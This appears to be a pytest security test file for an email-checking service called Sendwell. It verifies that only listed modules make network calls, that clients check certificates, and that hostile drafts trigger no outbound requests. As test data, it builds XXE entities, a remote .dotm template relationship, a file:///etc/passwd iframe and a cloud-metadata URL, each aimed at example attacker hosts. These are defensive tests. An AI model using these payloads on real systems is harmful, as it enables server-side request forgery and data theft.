"""Whom does Sendwell ask, and who chooses that? Only settings do; nothing that anybody wrote is ever opened."""

import ast
import io
import socket
import zipfile
from base64 import b64encode
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path

import pytest

from tests.road import PROJECT
from tests.security.whole_service import Whole

APP = PROJECT / "app"
REACH_OUT = {"httpx", "socket", "smtplib", "imaplib", "ftplib", "urllib3", "requests", "msal", "aiohttp", "asyncssh", "xmlrpc", "telnetlib"}  # fmt: skip
"""Packages that open connections; urllib.request is looked for by itself."""
CHOSEN_BY = {
    "adapters/documents/clamd.py": "SENDWELL_CLAMD",
    "adapters/entra/keys.py": "SENDWELL_SIGN_IN_AUTHORITY, and the papers that it publishes",
    "adapters/entra/on_behalf_of.py": "the same",
    "adapters/entra/sign_in.py": "the same",
    "adapters/graph/answers.py": "reads answers, asks nobody",
    "adapters/graph/mail_tips.py": "Microsoft Graph, written in the code",
    "adapters/graph/publisher.py": "Microsoft Graph, written in the code",
    "adapters/graph/token.py": "SENDWELL_GRAPH_TENANT at Microsoft's sign-in",
    "adapters/https_addresses.py": "the doctor: addresses that our own manifest names",
    "adapters/mail/smtp_connection.py": "SENDWELL_SMTP_HOST",
    "adapters/syslog/tls.py": "whoever runs sendwell journal export",
    "cli.py": "asks nobody: looks whether its own port is free before it listens there",
    "wiring/credentials.py": "the kind of client for Graph and the provider, made in the next two and in wiring/mail.py",
    "wiring/exchange.py": "makes the client for Graph",
    "wiring/sign_in.py": "makes the client for the provider",
}
"""Every module that can reach out, and who says where to. docs/security/decisions.md tells the same in words."""
MODULES = sorted(APP.rglob("*.py"))


@cache
def tree_of(module: Path) -> ast.Module:
    return ast.parse(module.read_text("utf-8"))


def imported(module: Path) -> Iterator[str]:
    for node in ast.walk(tree_of(module)):
        if isinstance(node, ast.Import):
            yield from (name.name for name in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            yield node.module


def test_only_these_modules_reach_out() -> None:
    found = {
        str(module.relative_to(APP))
        for module in MODULES
        if any(
            name.partition(".")[0] in REACH_OUT or name in {"urllib.request", "http.client"}
            for name in imported(module)
        )
    }

    assert found == CHOSEN_BY.keys()


def test_the_page_names_every_one_of_them() -> None:
    page = (PROJECT / "docs/security/decisions.md").read_text("utf-8")

    assert [name for name in CHOSEN_BY if f"app/{name}" not in page] == []


def test_every_client_checks_certificates_and_follows_no_redirect() -> None:
    made = []
    for module in (APP / name for name in (*CHOSEN_BY, "wiring/mail.py")):
        for node in ast.walk(tree_of(module)):
            said = {word.arg: ast.unparse(word.value) for word in getattr(node, "keywords", ())}
            if isinstance(node, ast.Call) and ast.unparse(node.func) in {"httpx.Client", "FormClient"}:
                made.append(said)
            assert said.get("verify") != "False"
            assert said.get("check_hostname") != "False"
        words = module.read_text("utf-8")
        assert not any(
            weak in words for weak in ("CERT_NONE", "_create_unverified", "check_hostname = False")
        )

    assert len(made) == 4
    assert [said.get("follow_redirects") for said in made] == ["False"] * 4


EVIL = "203.0.113.80"
"""An address that is for examples only."""


def test_a_draft_full_of_addresses_makes_nobody_reach_out(
    whole: Whole, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[object] = []

    def refuse(_: socket.socket, where: object) -> None:
        asked.append(where)
        raise OSError("nobody there")

    def look_up(host: object, *_: object, **__: object) -> None:
        asked.append(host)
        raise OSError("no such name")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", look_up)
    body = (
        f'<base href="https://{EVIL}/"><link rel=stylesheet href="//{EVIL}/a.css"><img src="http://{EVIL}/a.gif">'
        f'<a href="https://{EVIL}/a">here</a><iframe src="file:///etc/passwd"></iframe>'
        '<a href="http://169.254.169.254/latest/meta-data/">there</a> https://evil.example/x magnet:?xt=a'
    )
    files = {
        "a.docx": package({"word/document.xml": _OUTSIDE, "word/_rels/document.xml.rels": _OUTSIDE}),
        "b.html": body.encode(),
        "c.eml": b'Content-Type: message/external-body; access-type=URL; URL="http://203.0.113.80/"\r\n\r\n',
    }
    attached = [
        {"name": name, "size": len(content), "content": b64encode(content).decode()}
        for name, content in files.items()
    ]
    draft = {
        "subject": f"See http://{EVIL}/",
        "body": {"format": "html", "content": body},
        "recipients": {"to": [{"address": "head@evil.example"}]},
        "attachments": attached,
    }
    told = whole.ask("POST", "/api/v1/checks", json={"moment": "send", "draft": draft})

    assert told.status_code == 200, told.text
    assert asked == []


_OUTSIDE = (
    f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://{EVIL}/b">]><a>&b;'
    f'<Relationship Target="http://{EVIL}/t.dotm" TargetMode="External"/></a>'
).encode()


def package(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()
